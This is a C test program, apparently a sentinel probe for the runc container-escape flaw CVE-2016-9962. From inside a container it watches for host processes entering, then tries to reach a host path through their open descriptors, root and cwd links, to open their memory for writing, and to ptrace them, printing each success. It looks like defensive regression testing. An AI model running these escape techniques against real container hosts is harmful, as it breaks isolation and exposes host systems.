/* SPDX-License-Identifier: Apache-2.0 */
/*
 * snoop SENTINEL: CVE-2016-9962. Looks at every process that enters this container from outside, as long
 * as it still is what enters and not yet what was asked for: can its descriptors, its root or its current folder
 * be used to reach SENTINEL (a path of the host), can it be traced, its memory written?
 *
 * Until SIGTERM. Prints "reached …", "traced …" or "mem …" for each success, "snooping" first and "done" last.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *sentinel;
static dev_t own_root;

/* Its program is a file of another file system than this container's root: it comes from outside. */
static int is_foreign(int proc)
{
	struct stat s;

	return fstatat(proc, "exe", &s, 0) == 0 && s.st_dev != own_root;
}

static void try_folder(int proc, const char *name, const char *pid)
{
	static const char up[] = "../../../../../../../../../../../..";
	char path[4096];
	int at = openat(proc, name, O_PATH | O_CLOEXEC), found;

	if (at < 0)
		return;
	snprintf(path, sizeof path, "%s%s", up, sentinel);
	found = openat(at, path, O_RDONLY | O_CLOEXEC);
	if (found < 0) /* a root isn't left by ".." */
		found = openat(at, sentinel + 1, O_RDONLY | O_CLOEXEC);
	if (found < 0) { /* the host's procfs has a way out of its own */
		snprintf(path, sizeof path, "1/root%s", sentinel);
		found = openat(at, path, O_RDONLY | O_CLOEXEC);
	}
	if (found >= 0) {
		printf("reached the host by %s of %s\n", name, pid);
		close(found);
	}
	close(at);
}

static void try_descriptors(int proc, const char *pid)
{
	int at = openat(proc, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *dir = at < 0 ? NULL : fdopendir(at);
	struct dirent *d;

	if (!dir) {
		if (at >= 0)
			close(at);
		return;
	}
	while ((d = readdir(dir))) {
		char name[300];

		snprintf(name, sizeof name, "fd/%s", d->d_name);
		if (isdigit((unsigned char)d->d_name[0]))
			try_folder(proc, name, pid);
	}
	closedir(dir);
}

static void try_memory(int proc, const char *pid)
{
	int mem = openat(proc, "mem", O_RDWR | O_CLOEXEC);

	/* What was opened is the memory of the program that was run then: look at which after that. */
	if (mem >= 0 && is_foreign(proc))
		printf("mem of %s\n", pid);
	if (mem >= 0)
		close(mem);
}

static void try_trace(int proc, const char *name)
{
	pid_t pid = (pid_t)strtol(name, NULL, 10);

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (is_foreign(proc))
		printf("traced %s\n", name);
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void look_at(const char *pid)
{
	char path[300];
	int proc;

	snprintf(path, sizeof path, "/proc/%s", pid);
	proc = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (proc < 0)
		return;
	try_descriptors(proc, pid);
	try_folder(proc, "root", pid);
	try_folder(proc, "cwd", pid);
	try_memory(proc, pid);
	try_trace(proc, pid);
	fflush(stdout);
	close(proc);
}

static volatile sig_atomic_t is_told_to_end;

static void on_term(int signal)
{
	(void)signal;
	is_told_to_end = 1;
}

int main(int argc, char **argv)
{
	struct stat s;

	if (argc != 2 || stat("/", &s) < 0)
		return 2;
	sentinel = argv[1];
	own_root = s.st_dev;
	signal(SIGTERM, on_term);
	puts("snooping");
	fflush(stdout);
	while (!is_told_to_end) {
		DIR *dir = opendir("/proc");
		struct dirent *d;

		while (dir && (d = readdir(dir))) {
			long pid = strtol(d->d_name, NULL, 10);

			if (pid > 1 && pid != getpid())
				look_at(d->d_name);
		}
		if (dir)
			closedir(dir);
	}
	puts("done");
	return 0;
}
